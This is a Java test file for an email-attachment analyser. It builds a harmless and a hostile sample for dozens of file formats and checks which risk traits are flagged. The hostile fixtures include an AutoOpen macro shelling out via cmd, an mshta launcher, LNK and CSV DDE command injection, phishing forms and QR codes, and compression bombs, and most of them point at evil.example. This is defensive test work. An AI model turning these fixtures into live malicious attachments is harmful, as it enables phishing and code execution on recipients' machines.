package gyotaku.dissect;

import static org.assertj.core.api.Assertions.assertThat;

import com.google.zxing.BarcodeFormat;
import com.google.zxing.common.BitMatrix;
import com.google.zxing.qrcode.QRCodeWriter;
import gyotaku.dissect.archive.FatImage;
import gyotaku.dissect.archive.IsoImage;
import gyotaku.dissect.archive.RawZip;
import gyotaku.dissect.office.VbaOf;
import gyotaku.dissect.office.ZipOf;
import gyotaku.dissect.outlook.MsgBuilder;
import gyotaku.dissect.pdf.PdfOf;
import gyotaku.model.Limits;
import gyotaku.model.mail.Enclosure;
import gyotaku.model.mail.Enclosure.Wish;
import gyotaku.model.mail.Opened;
import gyotaku.model.mail.Trait;
import gyotaku.model.mail.Trait.Kind;
import gyotaku.parse.Magic;
import gyotaku.testkit.Packer;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.OutputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.ServiceLoader;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.GZIPOutputStream;
import javax.imageio.ImageIO;
import org.apache.commons.compress.archivers.sevenz.SevenZArchiveEntry;
import org.apache.commons.compress.archivers.sevenz.SevenZOutputFile;
import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.apache.commons.compress.archivers.tar.TarArchiveOutputStream;
import org.apache.commons.compress.compressors.CompressorStreamFactory;
import org.apache.commons.compress.utils.SeekableInMemoryByteChannel;
import org.apache.poi.hssf.record.crypto.Biff8EncryptionKey;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.bouncycastle.cms.CMSProcessableByteArray;
import org.bouncycastle.cms.CMSSignedDataGenerator;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/// For every format that is looked into a harmless file and a hostile one of our own making, and what each must show.
class EveryFormatTest {

    private static final String EVIL = "https://evil.example/x";
    private static final byte[] NOTES = ascii("Minutes of the meeting\r\n");
    private static final byte[] PROGRAM = ascii("MZ\0\0inert");
    private static final String PROGRAM_NAME = "invoice.pdf.exe";

    /// The password that opens what is locked here.
    private static final String PASSWORD = "s3cret-9";

    /// @param kinds that the file or a file in it shows
    /// @param links whether it leads to [#EVIL]
    private record Sample(String format, String name, byte[] bytes, Set<Kind> kinds, boolean links) {
        @Override
        public String toString() {
            return format + ": " + name;
        }

        Specimen specimen() {
            return new Specimen(name, "", Magic.of(bytes, 0, bytes.length), bytes);
        }
    }

    private static Sample benign(String format, String name, byte[] bytes, Kind... kinds) {
        return new Sample(format, name, bytes, Set.of(kinds), false);
    }

    private static Sample hostile(String format, String name, byte[] bytes, Kind... kinds) {
        return new Sample(format, name, bytes, Set.of(kinds), false);
    }

    private static Sample leading(String format, String name, byte[] bytes, Kind... kinds) {
        return new Sample(format, name, bytes, Set.of(kinds), true);
    }

    private static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    static Stream<Sample> benignFiles() throws Exception {
        return Stream.of(
                benign("HTML", "a.html", ascii("<!DOCTYPE html><html><p>Hello</p></html>")),
                benign("MHTML", "a.mht", mhtml("<html><p>Hello</p></html>")),
                benign("text", "a.txt", NOTES),
                benign("script", "a.ini.vbs", ascii("WScript.Echo 1"), Kind.PROGRAM, Kind.COMMAND),
                benign("SVG", "a.svg", svg("<text>Total</text>")),
                benign("OneNote", "a.one", oneNote("notes.txt", "hello"), Kind.EMBEDDED_FILE),
                benign(
                        "PDF",
                        "a.pdf",
                        PdfOf.page("", "BT /F1 12 Tf (Hello) Tj ET").bytes()),
                benign("RTF", "a.rtf", ascii("{\\rtf1\\ansi Hello\\par}")),
                benign("DOCX", "a.docx", ZipOf.word("<w:p/>").bytes()),
                benign(
                        "XLSX",
                        "a.xlsx",
                        ZipOf.sheet("xl/worksheets/sheet1.xml", "<worksheet/>").bytes()),
                benign("OLE", "a.doc", VbaOf.module("ThisDocument", "Option Explicit\n")),
                benign("PPT", "a.ppt", slides(record(4008, ascii("Hello")))),
                benign("XLS", "a.xls", sheet("")),
                benign("XLS, locked", "a.xls", sheet(PASSWORD), Kind.ENCRYPTED, Kind.PASSWORD_OPENED),
                benign("XML of Office", "a.xml", flat("<w:p/>")),
                benign("ActiveMime", "a.mso", activeMime(VbaOf.module("M", "Option Explicit\n")), Kind.EMBEDDED_OBJECT),
                benign("CSV", "a.csv", ascii("name,total\r\nA,1\r\n")),
                benign("ICS", "a.ics", ascii("BEGIN:VCALENDAR\r\nSUMMARY:Meeting\r\nEND:VCALENDAR\r\n")),
                benign("VCF", "a.vcf", ascii("BEGIN:VCARD\r\nFN:Ann\r\nEND:VCARD\r\n")),
                benign("LNK", "a.lnk", shellLink(""), Kind.PROGRAM),
                benign("URL", "a.url", ascii("[InternetShortcut]\r\nURL=https://www.example.com/\r\n"), Kind.PROGRAM),
                benign("webloc", "a.webloc", webloc("https://www.example.com/")),
                benign("PNG", "a.png", png(new BufferedImage(60, 60, BufferedImage.TYPE_INT_RGB))),
                benign("EML", "a.eml", ascii("From: a@example.com\r\nSubject: Hello\r\n\r\nHello\r\n")),
                benign("MSG", "a.msg", message("hello", "notes.txt", NOTES)),
                benign("TNEF", "winmail.dat", tnef("notes.txt", NOTES)),
                benign("PKCS #7", "smime.p7m", signed(ascii("Content-Type: text/plain\r\n\r\nHello\r\n"))),
                benign("PGP", "a.asc", armoured("MESSAGE", new byte[] {(byte) 0xcb, 4, 'b', 0, 0, 0})),
                benign("ZIP", "a.zip", new RawZip().file("notes.txt", NOTES).end("")),
                benign("7z", "a.7z", sevenZip("notes.txt", NOTES)),
                benign("tar", "a.tar", tar("notes.txt", NOTES)),
                benign("gzip", "notes.txt.gz", gzip(NOTES)),
                benign("bzip2", "notes.txt.bz2", packed(CompressorStreamFactory.BZIP2, NOTES)),
                benign("xz", "notes.txt.xz", packed(CompressorStreamFactory.XZ, NOTES)),
                benign("RAR 5", "a.rar", Packer.rar5("notes.txt", NOTES)),
                benign("RAR 4", "a.rar", Packer.rar4("notes.txt", NOTES)),
                benign("LZH", "a.lzh", Packer.lh5("notes.txt", NOTES)),
                benign("CAB", "a.cab", Packer.lzxCabinet("notes.txt", NOTES)),
                benign("ISO", "a.iso", IsoImage.of("notes.txt", NOTES)),
                benign("IMG", "a.img", new FatImage(12).with("notes.txt", NOTES).bytes()),
                benign(
                        "VHD",
                        "a.vhd",
                        FatImage.fixedVhd(
                                new FatImage(12).with("notes.txt", NOTES).bytes())),
                benign(
                        "VHDX",
                        "a.vhdx",
                        FatImage.vhdx(new FatImage(12).with("notes.txt", NOTES).bytes())));
    }

    static Stream<Sample> hostileFiles() throws Exception {
        byte[] macro = VbaOf.module("M", "Sub AutoOpen()\n  Shell \"cmd /c echo " + EVIL + "\"\nEnd Sub\n");
        byte[] volume = new FatImage(12).with(PROGRAM_NAME, PROGRAM).bytes();
        Kind[] unpacked = {Kind.PROGRAM, Kind.DECEPTIVE_NAME};
        return Stream.of(
                leading(
                        "HTML",
                        "a.html",
                        ascii("<!DOCTYPE html><html><form action='" + EVIL + "'><input type=password></form></html>"),
                        Kind.FORM,
                        Kind.PASSWORD_FIELD),
                leading(
                        "MHTML",
                        "a.mht",
                        mhtml("<html><form action='" + EVIL + "'><input type=password></form></html>"),
                        Kind.FORM,
                        Kind.PASSWORD_FIELD),
                leading("text", "a.txt", ascii("Sign in at " + EVIL)),
                leading(
                        "script",
                        "a.txt.vbs",
                        ascii("CreateObject(\"WScript.Shell\").Run \"mshta " + EVIL + "\""),
                        Kind.PROGRAM,
                        Kind.DECEPTIVE_NAME,
                        Kind.COMMAND),
                leading(
                        "SVG",
                        "a.svg",
                        svg("<script>location.href='" + EVIL + "'</script>"),
                        Kind.JAVASCRIPT,
                        Kind.OPEN_ACTION),
                hostile(
                        "OneNote",
                        "a.one",
                        oneNote("open.hta", "<html>inert</html>"),
                        Kind.EMBEDDED_FILE,
                        Kind.PROGRAM),
                leading(
                        "PDF",
                        "a.pdf",
                        PdfOf.page("/OpenAction << /S /URI /URI (" + EVIL + ") >>", "", "BT ET")
                                .bytes(),
                        Kind.OPEN_ACTION),
                leading("RTF", "a.rtf", ascii("{\\rtf1{\\*\\template " + EVIL + "}Hello}"), Kind.EXTERNAL_TEMPLATE),
                hostile(
                        "DOCX",
                        "a.docx",
                        ZipOf.word("<w:fldSimple w:instr='DDEAUTO c:\\\\echo inert'/>")
                                .bytes(),
                        Kind.DDE),
                leading(
                        "XLSX",
                        "a.xlsm",
                        ZipOf.sheet("xl/vbaProject.bin", "")
                                .with("xl/vbaProject.bin", macro)
                                .bytes(),
                        Kind.MACRO,
                        Kind.AUTO_RUN,
                        Kind.COMMAND),
                leading("OLE", "a.doc", macro, Kind.MACRO, Kind.AUTO_RUN, Kind.COMMAND),
                leading(
                        "PPT",
                        "a.ppt",
                        slides(container(4055, record(4026, EVIL.getBytes(StandardCharsets.UTF_16LE))), storage(macro)),
                        Kind.EMBEDDED_OBJECT,
                        Kind.MACRO,
                        Kind.AUTO_RUN,
                        Kind.COMMAND),
                hostile("XLS, locked", "a.xls", sheet("not-in-the-mail"), Kind.ENCRYPTED),
                hostile("XML of Office", "a.xml", flat("<w:fldSimple w:instr='DDEAUTO c:\\echo inert'/>"), Kind.DDE),
                leading(
                        "ActiveMime",
                        "a.mso",
                        activeMime(macro),
                        Kind.EMBEDDED_OBJECT,
                        Kind.MACRO,
                        Kind.AUTO_RUN,
                        Kind.COMMAND),
                hostile("CSV", "a.csv", ascii("=cmd|'/c echo inert'!A1,1\r\n"), Kind.DDE),
                leading(
                        "ICS",
                        "a.ics",
                        ascii("BEGIN:VCALENDAR\r\nDESCRIPTION:Sign in " + EVIL + "\r\nEND:VCALENDAR\r\n")),
                leading("VCF", "a.vcf", ascii("BEGIN:VCARD\r\nURL:" + EVIL + "\r\nEND:VCARD\r\n")),
                leading(
                        "LNK",
                        "a.pdf.lnk",
                        shellLink("/c start " + EVIL),
                        Kind.PROGRAM,
                        Kind.DECEPTIVE_NAME,
                        Kind.LAUNCH,
                        Kind.COMMAND),
                leading("URL", "a.url", ascii("[InternetShortcut]\r\nURL=" + EVIL + "\r\n"), Kind.PROGRAM),
                leading("webloc", "a.webloc", webloc(EVIL)),
                leading("PNG", "a.png", png(code()), Kind.LOOK, Kind.QR_CODE),
                hostile("EML", "a.eml", mail(), unpacked),
                hostile("MSG", "a.msg", message("hello", PROGRAM_NAME, PROGRAM), unpacked),
                hostile("TNEF", "winmail.dat", tnef(PROGRAM_NAME, PROGRAM), unpacked),
                hostile("PKCS #7", "smime.p7m", signed(mail()), unpacked),
                hostile(
                        "PGP",
                        "a.asc",
                        armoured("MESSAGE", new byte[] {(byte) 0xc1, 10, 3, 1, 2, 3, 4, 5, 6, 7, 8, 1}),
                        Kind.ENCRYPTED),
                hostile(
                        "PGP, by a password",
                        "a.asc",
                        armoured("MESSAGE", new byte[] {(byte) 0xc3, 4, 4, 9, 0, 8}),
                        Kind.ENCRYPTED),
                hostile("ZIP", "a.zip", new RawZip().file(PROGRAM_NAME, PROGRAM).end(""), unpacked),
                hostile("7z", "a.7z", sevenZip(PROGRAM_NAME, PROGRAM), unpacked),
                hostile("tar", "a.tar", tar(PROGRAM_NAME, PROGRAM), unpacked),
                hostile("gzip", PROGRAM_NAME + ".gz", gzip(PROGRAM), unpacked),
                hostile("bzip2", "a.txt.bz2", packed(CompressorStreamFactory.BZIP2, new byte[8 << 20]), Kind.BOMB),
                hostile("xz", "a.txt.xz", packed(CompressorStreamFactory.XZ, new byte[8 << 20]), Kind.BOMB),
                hostile("RAR 5", "a.rar", Packer.rar5(PROGRAM_NAME, PROGRAM), unpacked),
                hostile("RAR 4", "a.rar", Packer.rar4(PROGRAM_NAME, PROGRAM), unpacked),
                hostile("LZH", "a.lzh", Packer.lh5(PROGRAM_NAME, PROGRAM), unpacked),
                hostile("CAB", "a.cab", Packer.lzxCabinet(PROGRAM_NAME, PROGRAM), unpacked),
                hostile("ISO", "a.iso", IsoImage.of(PROGRAM_NAME, PROGRAM), unpacked),
                hostile("IMG", "a.img", volume, unpacked),
                hostile("VHD", "a.vhd", FatImage.dynamicVhd(volume), unpacked),
                hostile("VHDX", "a.vhdx", FatImage.vhdx(volume), unpacked));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource({"benignFiles", "hostileFiles"})
    void itShowsWhatItMust(Sample sample) {
        Wish wish = sample.format().equals("PKCS #7") ? Wish.MESSAGE : Wish.CONTENT;
        Dissector dissector = new Dissector(Limits.standard());
        Opened whole = dissector.open(new Enclosure(sample.name(), "", sample.bytes(), List.of(PASSWORD), wish));
        // The message that it keeps is read by the parser of mails, which asks about what is in it again.
        Opened opened = whole.message()
                .map(message -> dissector.open(new Enclosure("a.eml", "message/rfc822", message, List.of())))
                .orElse(whole);
        Set<Kind> shown = Stream.concat(
                        opened.traits().stream(), opened.all().flatMap(file -> file.opened().traits().stream()))
                .map(Trait::kind)
                .collect(Collectors.toCollection(TreeSet::new));

        assertThat(shown).as(opened.toString()).isEqualTo(sample.kinds());
        assertThat(opened.links().toString() + opened.files()).as("links").satisfies(said -> {
            assertThat(said.contains(EVIL)).isEqualTo(sample.links());
        });
        assertThat(opened.state()).isNotIn(Opened.State.BROKEN, Opened.State.NOT_LOOKED_INTO, Opened.State.FAILED);
    }

    @Test
    void everyReaderHasAHarmlessFileAndAHostileOne() throws Exception {
        List<Sample> benign = benignFiles().toList();
        List<Sample> hostile = hostileFiles().toList();
        for (FormatReader reader : ServiceLoader.load(FormatReader.class)) {
            assertThat(benign).as(reader + ": harmless").anyMatch(sample -> reader.reads(sample.specimen()));
            assertThat(hostile).as(reader + ": hostile").anyMatch(sample -> reader.reads(sample.specimen()));
        }
    }

    private static byte[] mhtml(String page) {
        return ascii("MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"b\"\r\n\r\n"
                + "--b\r\nContent-Type: text/html\r\n\r\n" + page + "\r\n--b--\r\n");
    }

    private static byte[] svg(String inside) {
        return ascii("<svg xmlns='http://www.w3.org/2000/svg'>" + inside + "</svg>");
    }

    private static byte[] webloc(String url) {
        return ascii("<plist><dict><key>URL</key><string>" + url + "</string></dict></plist>");
    }

    private static byte[] flat(String body) {
        return ascii("<?xml version='1.0'?><?mso-application progid='Word.Document'?>"
                + "<w:wordDocument xmlns:w='http://schemas.microsoft.com/office/word/2003/wordml'><w:body>"
                + body + "</w:body></w:wordDocument>");
    }

    private static byte[] mail() {
        return ascii("Content-Type: application/octet-stream; name=\"" + PROGRAM_NAME + "\"\r\n"
                + "Content-Transfer-Encoding: base64\r\n\r\n"
                + Base64.getEncoder().encodeToString(PROGRAM) + "\r\n");
    }

    private static byte[] oneNote(String name, String content) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(HexFormat.of().parseHex("e4525c7b8cd8a74daeb15378d02996d3"));
        out.writeBytes(new byte[64]);
        out.writeBytes(name.getBytes(StandardCharsets.UTF_16LE));
        out.writeBytes(new byte[8]);
        out.writeBytes(HexFormat.of().parseHex("e716e3bd65261145a4c48d4d0b7a9eac"));
        out.writeBytes(little(4).putInt(content.length()).array());
        out.writeBytes(new byte[16]);
        out.writeBytes(ascii(content));
        return out.toByteArray();
    }

    private static byte[] shellLink(String arguments) {
        byte[] wide = arguments.getBytes(StandardCharsets.UTF_16LE);
        ByteBuffer out = ByteBuffer.wrap(new byte[0x4c + (arguments.isEmpty() ? 0 : 2 + wide.length)])
                .order(ByteOrder.LITTLE_ENDIAN)
                .put(HexFormat.of().parseHex("4c0000000114020000000000c000000000000046"))
                .putInt(1 << 7 | (arguments.isEmpty() ? 0 : 1 << 5));
        if (!arguments.isEmpty()) {
            out.position(0x4c).putShort((short) arguments.length()).put(wide);
        }
        return out.array();
    }

    private static byte[] activeMime(byte[] project) throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(ascii("ActiveMime"));
        out.writeBytes(new byte[0x32 - 10]);
        try (OutputStream deflater = new DeflaterOutputStream(out)) {
            deflater.write(project);
        }
        return out.toByteArray();
    }

    private static byte[] slides(byte[]... records) throws Exception {
        ByteArrayOutputStream stream = new ByteArrayOutputStream();
        for (byte[] record : records) {
            stream.writeBytes(record);
        }
        stream.writeBytes(record(0, new byte[4096]));
        try (POIFSFileSystem file = new POIFSFileSystem()) {
            file.getRoot().createDocument("PowerPoint Document", new ByteArrayInputStream(stream.toByteArray()));
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            file.writeFilesystem(out);
            return out.toByteArray();
        }
    }

    private static byte[] record(int type, byte[] content) {
        return little(8 + content.length)
                .putShort((short) 0)
                .putShort((short) type)
                .putInt(content.length)
                .put(content)
                .array();
    }

    private static byte[] container(int type, byte[] content) {
        byte[] record = record(type, content);
        record[0] = 15;
        return record;
    }

    /// Of an object or of macros, packed.
    private static byte[] storage(byte[] file) {
        byte[] packed = PdfOf.deflated(file);
        return record(
                4113, little(4 + packed.length).putInt(file.length).put(packed).array());
    }

    private static byte[] sheet(String password) throws Exception {
        try (HSSFWorkbook workbook = new HSSFWorkbook()) {
            workbook.createSheet("A").createRow(0).createCell(0).setCellValue("Total");
            Biff8EncryptionKey.setCurrentUserPassword(password.isEmpty() ? null : password);
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            workbook.write(out);
            return out.toByteArray();
        } finally {
            Biff8EncryptionKey.setCurrentUserPassword(null);
        }
    }

    private static BufferedImage code() throws Exception {
        BitMatrix code = new QRCodeWriter().encode(EVIL, BarcodeFormat.QR_CODE, 240, 240);
        BufferedImage image = new BufferedImage(240, 240, BufferedImage.TYPE_INT_RGB);
        for (int x = 0; x < 240; x++) {
            for (int y = 0; y < 240; y++) {
                image.setRGB(x, y, code.get(x, y) ? 0 : 0xffffff);
            }
        }
        return image;
    }

    private static byte[] png(BufferedImage image) throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ImageIO.write(image, "png", out);
        return out.toByteArray();
    }

    private static byte[] message(String text, String name, byte[] content) {
        MsgBuilder message = new MsgBuilder();
        message.root()
                .text(0x001a, "IPM.Note")
                .text(0x0037, "Hello")
                .text(0x1000, text)
                .attachment(name, content);
        return message.bytes();
    }

    private static byte[] tnef(String name, byte[] content) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(new byte[] {0x78, (byte) 0x9f, 0x3e, 0x22, 1, 0});
        attribute(out, 0x00069002, new byte[14]);
        attribute(out, 0x0001_8010, ascii(name + "\0"));
        attribute(out, 0x0006_800f, content);
        return out.toByteArray();
    }

    private static void attribute(ByteArrayOutputStream out, int id, byte[] value) {
        int sum = 0;
        for (byte b : value) {
            sum += b & 255;
        }
        out.writeBytes(little(11 + value.length)
                .put((byte) 2)
                .putInt(id)
                .putInt(value.length)
                .put(value)
                .putShort((short) sum)
                .array());
    }

    private static byte[] signed(byte[] content) throws Exception {
        return new CMSSignedDataGenerator()
                .generate(new CMSProcessableByteArray(content), true)
                .getEncoded();
    }

    private static byte[] armoured(String what, byte[] packets) {
        return ascii("-----BEGIN PGP " + what + "-----\r\n\r\n"
                + Base64.getEncoder().encodeToString(packets) + "\r\n-----END PGP " + what + "-----\r\n");
    }

    private static byte[] sevenZip(String name, byte[] content) throws Exception {
        SeekableInMemoryByteChannel channel = new SeekableInMemoryByteChannel();
        try (SevenZOutputFile out = new SevenZOutputFile(channel)) {
            SevenZArchiveEntry entry = new SevenZArchiveEntry();
            entry.setName(name);
            out.putArchiveEntry(entry);
            out.write(content);
            out.closeArchiveEntry();
        }
        return Arrays.copyOf(channel.array(), (int) channel.size());
    }

    private static byte[] tar(String name, byte[] content) throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (TarArchiveOutputStream tar = new TarArchiveOutputStream(out)) {
            TarArchiveEntry entry = new TarArchiveEntry(name);
            entry.setSize(content.length);
            tar.putArchiveEntry(entry);
            tar.write(content);
            tar.closeArchiveEntry();
        }
        return out.toByteArray();
    }

    private static byte[] gzip(byte[] content) throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (OutputStream gzip = new GZIPOutputStream(out)) {
            gzip.write(content);
        }
        return out.toByteArray();
    }

    private static byte[] packed(String how, byte[] content) throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (OutputStream packer = new CompressorStreamFactory().createCompressorOutputStream(how, out)) {
            packer.write(content);
        }
        return out.toByteArray();
    }

    private static ByteBuffer little(int size) {
        return ByteBuffer.allocate(size).order(ByteOrder.LITTLE_ENDIAN);
    }
}
